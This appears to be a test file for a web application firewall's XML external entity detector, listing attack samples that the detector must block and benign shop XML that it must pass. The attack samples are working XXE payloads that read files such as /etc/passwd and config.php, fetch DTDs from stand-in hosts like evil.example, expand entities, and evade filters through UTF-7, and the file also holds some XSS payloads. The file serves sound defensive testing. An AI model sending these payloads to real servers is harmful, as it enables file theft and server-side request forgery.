import { expect } from 'chai';
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { detectXxe, inspectRequest } from '../../../plugins/waf/engine/index.js';
import { findMissed, findSharedFile, findWronglyBlocked, isBlocked, listRules, makePolicy } from './helpers.js';

const ATTACKS = [
  '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/hostname">]><order>&x;</order>',
  '<!DOCTYPE r [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
  '<!ENTITY % p SYSTEM "file:///var/www/config.php">',
  '<!DOCTYPE bomb [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><bomb>&b;</bomb>',
  '<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://10.1.2.3/oob.dtd">\n<invoice/>',
  '<!DOCTYPE x PUBLIC "-//Evil//X" "ftp://evil.example/d.dtd"><x/>',
  '<!DOCTYPE x [ %param; ]>',
  '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/group"/></root>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/hosts\')"/></xsl:template></xsl:stylesheet>',
  '&lt;!DOCTYPE a [&lt;!ENTITY b SYSTEM "file:///c:/windows/win.ini"&gt;]&gt;',
  '<order> <note>&remoteText;</note> </order>',
  '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://10.0.0.5/</string></value></param></params></methodCall>',
  '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY x SYSTEM +ACI-http://x.example/+ACIAPgBdAD4-',
  '<!ENTITY\tx\nSYSTEM\n"http://x.example/">',
];

/** XML as payment providers and carriers send it, and doctypes of ordinary pages. */
const PLAIN_XML = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><notification><orderId>1042</orderId><status>PAID</status></notification>',
  "<?xml version='1.0'?><xml><return_code><![CDATA[SUCCESS]]></return_code><total_fee>1999</total_fee></xml>",
  '<!DOCTYPE html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
  'Tom &amp; Jerry &copy; 2024',
  'Please include the invoice',
  '<p>Caf&eacute; cr&egrave;me &ndash; 250&nbsp;g &hearts;</p>',
  '<?xml version="1.0"?><products><product><name>Procter&amp;Gamble; soap</name><note>AT&amp;T; &quot;Classic&quot;</note></product></products>',
  '<?xml version="1.0"?><methodCall><methodName>catalog.list</methodName><params></params></methodCall>',
  '<?xml version="1.0" encoding="utf-16"?><Order><Id>1001</Id><Note>Gift wrap (blue) &amp; card</Note></Order>',
  '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Row><Cell>Shoe</Cell></Row></Workbook>',
];

describe('waf XML external entities', () => {
  it('blocks entity declarations, external DTDs, parameter entities, XInclude and XSLT file reads', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes XML prologs, plain documents and page doctypes', () => {
    expect(findWronglyBlocked(PLAIN_XML)).to.deep.equal([]);
  });

  it('passes an XML webhook body and blocks the same body with an external entity', () => {
    const body = '<?xml version="1.0" encoding="UTF-8"?>\n<Notify><TradeNo>2024</TradeNo><Amount>1999</Amount></Notify>';
    const request = (rawBody: string) => ({ method: 'POST', path: '/webhooks/pay', query: {}, headers: { host: 'shop.example.com', 'content-type': 'application/xml' }, rawBody });
    expect(inspectRequest(request(body), makePolicy()).blocked).to.equal(false);
    const evil = body.replace('?>\n', '?>\n<!DOCTYPE Notify [<!ENTITY t SYSTEM "file:///etc/passwd">]>\n').replace('2024', '&t;');
    expect(inspectRequest(request(evil), makePolicy()).blocked).to.equal(true);
  });

  it('flags an XML element tree referring to an entity it does not declare, not HTML text with character names', () => {
    expect(listRules('<change-log> <text>&systemEntity;</text> </change-log>', 'xxe')).to.include('xxe.undeclared-entity');
    expect(listRules('<r>&xxe;</r>', 'xxe')).to.include('xxe.undeclared-entity');
    for (const v of ['<p>&check; in stock &bigstar;</p>', '<r>&lt;b&gt; &eacute; &Omega; &euro;</r>', '<r>R&D; AT&T;</r>']) expect(listRules(v, 'xxe'), v).to.deep.equal([]);
  });

  it('passes feeds and webhooks whose element names are HTML names with a meaning there (RSS link, title, style; a stylesheet instruction)', () => {
    const feeds = [
      '<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="/feed.xsl"?><rss version="2.0" xmlns:g="http://base.google.com/ns/1.0"><channel><title>Shop</title><link>https://shop.example.com</link><item><g:id>A1</g:id><title>Men\'s "Classic" Tee (Size M*)</title><g:price>19.99 USD</g:price><description><![CDATA[<p>Soft cotton &amp; <b>durable</b>.</p>]]></description></item></channel></rss>',
      '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Updates</title><entry><title>New arrivals &mdash; winter</title><content type="html">&lt;p&gt;Hello&lt;/p&gt;</content></entry></feed>',
      '<?xml version="1.0"?><catalog><item><style>casual</style><meta>new</meta><base>cotton</base><import>EU</import></item></catalog>',
    ];
    expect(findWronglyBlocked(feeds)).to.deep.equal([]);
    // A prolog does not make a page safe: script, and a page in XHTML's namespace, count as anywhere.
    expect(findMissed([
      '<?xml version="1.0"?><rss><title>x</title><script>alert(1)</script></rss>',
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><style>@import url(http://evil.example/x.css);</style></head></html>',
      '<?xml version="1.0"?></title><img src=x onerror=alert(1)>',
    ])).to.deep.equal([]);
  });

  it('names the technique', () => {
    expect(listRules('<!ENTITY e SYSTEM "http://x.example/">', 'xxe')).to.include('xxe.entity-declaration');
    expect(listRules('<!DOCTYPE d SYSTEM "http://x.example/d.dtd">', 'xxe')).to.include('xxe.external-dtd');
  });

  it('flags a lone reference to a declared entity, not XML\'s own or text\'s character names', () => {
    for (const v of ['&xxe;', ' %remote; ', '&file.content;']) expect(listRules(v, 'xxe'), v).to.include('xxe.entity-reference');
    for (const v of ['&amp;', '&eacute;', '&nbsp;', 'AT&T; R&D;', 'x &y; z', '50%off;']) expect(listRules(v, 'xxe'), v).to.deep.equal([]);
  });

  it('passes XML webhook documents whose element names are also HTML names (source, body, form, input)', () => {
    const docs = [
      '<?xml version="1.0"?>\n<!-- generated by the carrier -->\n<Shipment><source>EDI</source><form>CN23</form><input>scan</input></Shipment>',
      '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Notify><Status>paid</Status></Notify></soap:Body></soap:Envelope>',
    ];
    const request = (rawBody: string) => ({ method: 'POST', path: '/webhooks/carrier', query: {}, headers: { host: 'shop.example.com', 'content-type': 'application/xml' }, rawBody });
    for (const d of docs) expect(inspectRequest(request(d), makePolicy()).matches.map((m) => m.ruleId).filter((r) => !r.startsWith('protocol.')), d).to.deep.equal([]);
  });

  describe('escaping probes (xxe.escaped-markup-probe)', () => {
    const PROBES = [
      '&lt;Tnn96&gt;', '&quot;XoiZR', '&apos;XoiZR', '&LT;probe&GT;', '&lt;/Zq81x&gt;', '&lt;x:probe/&gt;',
      '&#60;Tnn96&#62;', '&#x3C;Tnn96&#x3E;', '&#34;XoiZR', '&#039;XoiZR', '&#x22;XoiZR', '&#x27;XoiZR', ' &quot;abc ',
      // Escaped twice: the once-decoded form is the probe.
      '&amp;lt;Tnn96&amp;gt;', '&amp;quot;XoiZR',
    ];
    /** Text escaped for a page: more than one tag or quote, an HTML element, words around it. */
    const ESCAPED_TEXT = [
      '&lt;b&gt;bold&lt;/b&gt;', '&lt;br&gt;', '&lt;p&gt;', '&lt;/strong&gt;', 'Tom &amp; Jerry',
      '&quot;Hello&quot; she said', '&quot;Classic&quot;', '&quot;Classic&quot; tee', '&lt; 10 kg', '&gt;50',
      'Men&apos;s &quot;Classic&quot; Tee (Size M)', 'It&#39;s a &quot;must have&quot; &amp; fits &lt;3 year olds&gt;.',
      'Don&apos;t', 'L&apos;Oréal', '&quot;', '&quot; &quot;', '&quot;42', '&lt;your name&gt;', '&lt;3',
      '&lt;Tnn96&gt; and more text', 'see &quot;XoiZR', '&quot;Tnn96&quot;',
    ];
    /** Not this rule's, though other detectors judge them: `<script>` and `<>` (xss), `5 < 6` (sqli, a comparison of literals). */
    const OTHER_DETECTORS = ['&lt;script&gt;', '&lt;&gt;', '5 &lt; 6'];

    it('flags a value that is only an escaped tag of no HTML element or an escaped quote opening a word', () => {
      for (const v of PROBES) expect(listRules(v, 'xxe'), v).to.include('xxe.escaped-markup-probe');
      expect(findMissed(PROBES)).to.deep.equal([]);
    });

    it('passes HTML-escaped shop text', () => {
      for (const v of [...ESCAPED_TEXT, ...OTHER_DETECTORS]) expect(listRules(v, 'xxe', 4), v).to.deep.equal([]);
      expect(findWronglyBlocked(ESCAPED_TEXT)).to.deep.equal([]);
      // The same characters unescaped are not probes either.
      for (const v of ['<Tnn96>', '"XoiZR', "'XoiZR"]) expect(listRules(v, 'xxe'), v).to.not.include('xxe.escaped-markup-probe');
    });

    it('is a paranoia 1 rule that blocks alone', () => {
      expect(isBlocked('&lt;Tnn96&gt;', 1)).to.equal(true);
      expect(detectXxe('&quot;XoiZR', 1).map((h) => [h.ruleId, h.paranoia, h.severity])).to.deep.equal([['xxe.escaped-markup-probe', 1, 'critical']]);
    });

    it('flags none of the dev corpora\'s benign values once they are HTML-escaped', function () {
      this.timeout(60_000);
      const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
      let benign = 0;
      const flagged: string[] = [];
      for (const name of ['dev-payloads.jsonl.gz', 'dev-payloads-2.jsonl.gz']) {
        const lines = gunzipSync(readFileSync(findSharedFile(name, this))).toString('utf8').split('\n').filter(Boolean);
        for (const line of lines) {
          const e = JSON.parse(line) as { expect: string; payload?: string };
          if (e.expect !== 'benign' || typeof e.payload !== 'string') continue;
          benign += 1;
          for (const v of [escape(e.payload), escape(e.payload).replace(/&#39;/g, '&apos;')]) {
            if (detectXxe(v, 4).some((h) => h.ruleId === 'xxe.escaped-markup-probe')) flagged.push(v);
          }
        }
      }
      expect(benign).to.be.greaterThan(40_000);
      expect(flagged).to.deep.equal([]);
    });
  });
});
